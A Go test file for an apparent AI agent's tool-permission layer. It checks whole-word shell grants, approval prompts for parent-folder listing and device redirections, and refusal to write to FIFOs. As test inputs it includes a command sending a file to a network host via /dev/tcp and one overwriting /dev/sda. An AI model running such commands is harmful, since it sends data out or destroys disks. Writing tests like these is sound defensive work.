package tool

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// The mutation survivors of a review, as tests: each fails when its
// mutation is applied (see the issue note for how that was checked).

// TestAlwaysCoversWholeWords: an "always" for rm or go test covers those
// commands with more arguments, never rmdir or go testify.
func TestAlwaysCoversWholeWords(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		grant, command string
		covers         bool
	}{
		{"rm", "rm x", true},
		{"rm", "rmdir x", false},
		{"go test", "go test ./...", true},
		{"go test", "go testify", false},
		{"go test", "go", false},
	} {
		g := Grant{Kind: GrantShell, Value: tt.grant}
		if got := g.covers(Grant{Kind: GrantShell, Value: tt.command}); got != tt.covers {
			t.Errorf("always %q covers %q: %v", tt.grant, tt.command, got)
		}
	}
}

// TestDeviceRedirectionsAsk: with the sandbox off, writing to a network
// pseudo-device or a disk is asked about, whatever the allow list says.
func TestDeviceRedirectionsAsk(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, command := range []string{"cat f > /dev/tcp/203.0.113.1/80", "echo x > /dev/sda"} {
		set := NewSet(Builtins(Workspace{Root: dir})...)
		set.Policy = &Policy{AllowShell: []string{"cat", "echo"}}
		var asked []Request
		set.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
			asked = append(asked, r)
			return Decision{Verdict: Deny, Reason: "no"}, nil
		})
		call(set, "run_shell", map[string]any{"command": command})
		if len(asked) != 1 || len(asked[0].Why) == 0 {
			t.Errorf("%q: asked %+v", command, asked)
		}
	}
}

// TestListingTheParentAsks: list_files .. asks, naming the parent folder.
func TestListingTheParentAsks(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "work")
	os.Mkdir(dir, 0o700)
	set := NewSet(Builtins(Workspace{Root: dir})...)
	var asked []Request
	set.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
		asked = append(asked, r)
		return Decision{Verdict: Deny, Reason: "no"}, nil
	})
	call(set, "list_files", map[string]any{"path": ".."})
	if len(asked) != 1 || asked[0].Review.Target != filepath.Dir(dir) {
		t.Fatalf("asked %+v", asked)
	}
}

// TestWriteOntoAFIFOIsRefused: write_file never opens a FIFO (it would
// block, or feed a reader the person did not choose).
func TestWriteOntoAFIFOIsRefused(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o600); err != nil {
		t.Skip(err)
	}
	set := NewSet(Builtins(Workspace{Root: dir})...)
	set.Policy = &Policy{AllowAll: true}
	r := call(set, "write_file", map[string]any{"path": "pipe", "content": "x"})
	if r.Err == nil || !strings.Contains(r.Content, "not a regular file") {
		t.Fatalf("%+v", r)
	}
}
